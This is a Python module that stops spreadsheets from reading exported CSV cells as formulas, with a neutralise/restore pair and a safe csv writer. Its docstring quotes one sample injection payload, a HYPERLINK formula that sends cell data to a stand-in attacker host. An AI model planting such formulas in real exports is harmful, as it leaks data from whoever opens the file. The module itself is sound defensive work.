"""CSV files a spreadsheet cannot turn into formulas ("CSV injection").

Excel and LibreOffice read a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(some skip a leading tab or carriage return first). An operator's name typed as
``=HYPERLINK("https://evil.example/?"&A2, "Anna")`` would then run on the planner's
computer when the export is opened. Every exported cell that starts that way gets a leading
apostrophe, the spreadsheets' own mark for "this is text"; :func:`restore` takes it off again
on import, so an export reads back in unchanged.

The ``defusedcsv`` package does the same for ``= + - @ | %`` but lets a leading tab or
carriage return through, hence these few lines.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def neutralise(value: Any) -> str:
    """The cell as text, with a leading apostrophe if a spreadsheet would read a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        return TEXT_MARK + text
    return text


def restore(value: str) -> str:
    """Undo :func:`neutralise` (an apostrophe before anything else is left alone)."""
    if value.startswith(TEXT_MARK) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class SafeWriter:
    """``csv.writer`` whose every cell has passed :func:`neutralise`."""

    def __init__(self, out: IO[str], **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
